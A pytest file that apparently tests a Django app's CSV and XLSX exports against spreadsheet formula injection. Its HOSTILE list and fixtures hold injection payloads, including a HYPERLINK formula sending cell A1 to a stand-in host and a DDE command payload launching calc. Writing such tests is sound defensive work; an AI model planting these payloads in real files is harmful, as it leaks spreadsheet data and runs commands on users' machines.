"""Exports never carry live formulas (issue 11, Medium): OWASP's rule in CSV, text
cells in XLSX."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from plan.exports import csv_cell
from tests import builders

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://ke-xau.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
]


def test_the_rule_on_single_cells():
    for value in HOSTILE:
        assert csv_cell(value).startswith("'"), value
    for value in ("95.5", "-5", "+1,5", "Sở Nội vụ", "", None, 3):
        assert csv_cell(value) == value


def test_open_data_csv_neutralises_formulas(client):
    indicator = builders.IndicatorFactory(metric="=1+1", statement="@SUM(A1)")
    for number, text in enumerate(HOSTILE):
        builders.ResultFactory(indicator=indicator, period=f"2024-0{number + 1}", note=text, source_name=text)
    for url in ("/du-lieu/ket-qua.csv", "/du-lieu/chi-tieu.csv"):
        body = client.get(url).content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), url
        assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
    assert "'=HYPERLINK(" in body or "'=1+1" in body


def test_admin_report_exports_text_not_formulas(admin_client):
    agency = builders.AgencyFactory(name='=HYPERLINK("http://ke-xau.example","Bấm")')
    builders.IndicatorFactory(responsible_agency=agency, metric="+cmd|' /C calc'!A0")
    url = "/admin/bao-cao/viec-can-cap-nhat/"
    response = admin_client.get(url, {"export": "xlsx"})
    data = response.content
    workbook = load_workbook(io.BytesIO(data))
    values = {cell.value: cell.data_type for row in workbook.active.iter_rows() for cell in row}
    assert values['=HYPERLINK("http://ke-xau.example","Bấm")'] == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    text = admin_client.get(url, {"export": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert '\'=HYPERLINK("http://ke-xau.example","Bấm")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
